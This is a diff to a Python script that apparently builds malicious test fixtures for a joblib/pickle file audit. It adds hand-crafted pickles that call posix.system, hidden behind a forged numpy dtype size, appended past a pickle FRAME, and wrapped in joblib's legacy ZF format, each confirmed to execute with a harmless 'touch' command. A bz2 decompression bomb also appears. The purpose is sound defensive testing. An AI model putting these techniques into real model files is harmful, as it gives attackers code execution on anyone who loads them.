@@ -10,6 +10,20 @@ section 3), into the directory given:
   payload.joblib                   an object whose __reduce__ is os.system('touch MARKER')
   object_payload.joblib            the same object inside an object array
   bomb.bz2                         about 10 GB of output from about 11 KB: multi-stream bz2
+  dtype_size.joblib                an f8 array whose numpy.dtype state says its items are 52
+                                   bytes: numpy ignores the field and joblib reads 8 a value,
+                                   then runs the os.system call in the 44 bytes a value that
+                                   the field would skip
+  dtype_size_same.joblib           the field set to 8, the code's own size (a near miss)
+  frame_object.joblib              an object array whose pickle sits inside the outer FRAME:
+                                   joblib's pickle.load reads after the frame, where an
+                                   os.system pickle waits
+  payload.zf, clean.zf             joblib's old ZF format (zlib behind "ZF" and a hex length),
+                                   which current joblib still loads with Python's unpickler
+
+The three attacks are proved on Debian's joblib before they are handed to the audit: each is
+loaded in a child process and must leave its proof file (then removed), so each fixture is one
+that really runs its call.
 
 Debian's python3-sklearn cannot be installed beside Boost 1.81 (its scipy pulls Boost 1.74),
 so the scikit-learn objects are built from the globals and the state the real classes write:
@@ -18,8 +32,11 @@ Nothing here is ever loaded: the audit reads the files, and the payload would le
 """
 import bz2
 import os
+import pickle
+import struct
 import sys
 import types
+import zlib
 
 import joblib
 import numpy as np
@@ -103,3 +120,70 @@ with open(os.path.join(out, "bomb.bz2"), "wb") as f:
     f.write(bz2.compress(b"\x80\x04\x95" + b"\0" * 45_000_000, 9))
     for _ in range(222):
         f.write(zeros)
+
+
+def proved(name, proof):
+    """Loads `name` with joblib in a child process: the attack must run (leave `proof`)."""
+    import subprocess
+    if os.path.exists(proof):
+        os.unlink(proof)
+    subprocess.run([sys.executable, "-W", "ignore", "-c", "import joblib, sys\ntry: joblib.load(sys.argv[1])\nexcept Exception: pass",
+                    os.path.join(out, name)], check=True, capture_output=True)
+    if not os.path.exists(proof):
+        sys.exit("joblib did not run the call of " + name + ": the fixture no longer reproduces the attack")
+    os.unlink(proof)
+
+
+def command_opcodes(command, size):
+    """Protocol-0 opcodes calling os.system(command) and dropping the result, `size` bytes long."""
+    call = b"cposix\nsystem\n(V" + command.encode() + b"\ntR0"
+    if (size - len(call)) % 2:
+        call = b"cposix\nsystem\n(V" + command.encode() + b" \ntR0"
+    assert len(call) <= size
+    return call + b"N0" * ((size - len(call)) // 2)  # NONE, POP: the stack as it was
+
+
+def dtype_size(name, field, payload):
+    values = np.array([1.5, 2.5, 3.5, 4.5])
+    joblib.dump({"w": values}, os.path.join(out, name), protocol=2)
+    with open(os.path.join(out, name), "rb") as f:
+        data = f.read()
+    # numpy.dtype's state (3, '<', None, None, None, elsize, alignment, flags): elsize is -1.
+    state = b"NNNJ\xff\xff\xff\xffJ"
+    assert data.count(state) == 1
+    data = data.replace(state, b"NNNJ" + struct.pack("<i", field) + b"J")
+    if payload:
+        at = data.index(values.tobytes()) + values.nbytes
+        data = data[:at] + command_opcodes(payload, values.size * (field - 8)) + data[at:]
+    with open(os.path.join(out, name), "wb") as f:
+        f.write(data)
+
+
+proof = os.path.join(out, "proof-dtype")
+dtype_size("dtype_size.joblib", 52, "touch " + proof)
+proved("dtype_size.joblib", proof)
+dtype_size("dtype_size_same.joblib", 8, None)
+
+joblib.dump({"o": np.array([1, None], dtype=object)}, os.path.join(out, "frame_object.joblib"), protocol=4)
+with open(os.path.join(out, "frame_object.joblib"), "rb") as f:
+    data = f.read()
+frame_length = struct.unpack("<Q", data[3:11])[0]
+frame_end = 11 + frame_length
+assert data[frame_end:frame_end + 2] == b"\x80\x02"  # the object array's own pickle follows the frame
+object_end = data.index(b"b.s.", frame_end) + 2
+proof = os.path.join(out, "proof-frame")
+after = b"\x80\x02cposix\nsystem\n(Vtouch " + proof.encode() + b"\ntR."
+with open(os.path.join(out, "frame_object.joblib"), "wb") as f:
+    f.write(data[:3] + struct.pack("<Q", frame_length + object_end - frame_end) + data[11:object_end] + after)
+proved("frame_object.joblib", proof)
+
+
+def zfile(name, pickled):
+    with open(os.path.join(out, name), "wb") as f:
+        f.write(b"ZF" + hex(len(pickled)).encode().ljust(19) + zlib.compress(pickled))
+
+
+proof = os.path.join(out, "proof-zf")
+zfile("payload.zf", b"\x80\x02cposix\nsystem\n(Vtouch " + proof.encode() + b"\ntR.")
+proved("payload.zf", proof)
+zfile("clean.zf", pickle.dumps({"lr": 0.1, "steps": [1, 2, 3]}, protocol=2))
